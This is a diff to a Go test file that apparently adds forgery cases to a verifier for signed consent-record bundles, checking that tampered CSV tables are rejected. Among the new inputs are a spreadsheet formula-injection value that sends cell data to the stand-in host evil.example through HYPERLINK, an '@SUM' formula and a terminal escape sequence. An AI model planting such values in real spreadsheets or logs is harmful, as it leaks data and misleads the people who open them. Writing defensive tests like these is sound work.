@@ -165,6 +165,22 @@ func retable(p *parts) {
 	}
 }
 
+// identified is a bundle with the platform's ids, one of which was written as this instead.
+func identified(cell string) func() []byte {
+	return func() []byte {
+		w := newWorld()
+		p := w.bundle(cut{subjects: true})
+		replace("checks", ".csv", `"emp,""1"""`, cell)(&p)
+		return zipped(p.entries())
+	}
+}
+
+// retell derives what is told of the lines once more, as the claims are now.
+func retell(p *parts) {
+	graph, report := p.told()
+	p.get("consents.jsonld").data, p.get("report.html").data = graph, report
+}
+
 // where is the first Record of a type, behind n others of it.
 func (w *world) where(kind domain.RecordType, n int) int {
 	for i, r := range w.records {
@@ -261,13 +277,24 @@ func editedForgeries() map[string]forgery {
 			text[2] = "A" + text[2][1:]
 			f.data = []byte(strings.Join(text, "\n"))
 		}), bundle.NotSigned, bundle.Options{}},
-		"a notice swapped":       {edited(swap("notices/", "en.json")), bundle.OtherDocument, bundle.Options{}},
-		"a notice changed":       {edited(replace("notices/", "en.json", "I agree", "I gladly agree")), bundle.OtherDocument, bundle.Options{}},
-		"a delegation changed":   {edited(replace("delegations/", ".json", "safeguards", "nothing")), bundle.OtherDocument, bundle.Options{}},
-		"an agreement changed":   {edited(replace("delegations/", ".agreement", "agreement", "contract")), bundle.OtherDocument, bundle.Options{}},
-		"a table's cell changed": {edited(replace("checks", ".csv", "check.failed", "check.passed")), bundle.WrongTable, bundle.Options{}},
-		"a table's row deleted":  {edited(cutLine("consents.csv")), bundle.WrongTable, bundle.Options{}},
-		"a table's row added":    {edited(func(p *parts) { f := p.get("access.csv"); f.data = append(f.data, "x\r\n"...) }), bundle.WrongTable, bundle.Options{}},
+		"a notice swapped":                      {edited(swap("notices/", "en.json")), bundle.OtherDocument, bundle.Options{}},
+		"a notice changed":                      {edited(replace("notices/", "en.json", "I agree", "I gladly agree")), bundle.OtherDocument, bundle.Options{}},
+		"a delegation changed":                  {edited(replace("delegations/", ".json", "safeguards", "nothing")), bundle.OtherDocument, bundle.Options{}},
+		"an agreement changed":                  {edited(replace("delegations/", ".agreement", "agreement", "contract")), bundle.OtherDocument, bundle.Options{}},
+		"a table's cell changed":                {edited(replace("checks", ".csv", "check.failed", "check.passed")), bundle.WrongTable, bundle.Options{}},
+		"a table's row deleted":                 {edited(cutLine("consents.csv")), bundle.WrongTable, bundle.Options{}},
+		"a table's row added":                   {edited(func(p *parts) { f := p.get("access.csv"); f.data = append(f.data, "x\r\n"...) }), bundle.WrongTable, bundle.Options{}},
+		"a formula for a platform's id":         {identified(`"=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`), bundle.WrongTable, bundle.Options{}},
+		"a formula without quotes":              {identified("@SUM(A1)"), bundle.WrongTable, bundle.Options{}},
+		"a platform's id quoted for nothing":    {identified(`"emp1"`), bundle.WrongTable, bundle.Options{}},
+		"a platform's id of two cells":          {identified("emp,1"), bundle.WrongTable, bundle.Options{}},
+		"a platform's id with a quote":          {identified(`emp"1`), bundle.WrongTable, bundle.Options{}},
+		"a platform's id with quotes at odds":   {identified(`"emp"1"`), bundle.WrongTable, bundle.Options{}},
+		"a platform's id with half a quote":     {identified(`"`), bundle.WrongTable, bundle.Options{}},
+		"a platform's id of two lines":          {identified("\"emp\r\n=1\""), bundle.WrongTable, bundle.Options{}},
+		"a platform's id that moves the cursor": {identified("emp\x1b[2K"), bundle.WrongTable, bundle.Options{}},
+		"a platform's id that is no text":       {identified("emp\xff"), bundle.WrongTable, bundle.Options{}},
+		"a platform's id without an end":        {identified(strings.Repeat("e", 1023)), bundle.WrongTable, bundle.Options{}},
 		"a table with bare line ends": {edited(func(p *parts) {
 			f := p.get("requests.csv")
 			f.data = bytes.ReplaceAll(f.data, []byte("\r\n"), []byte("\n"))
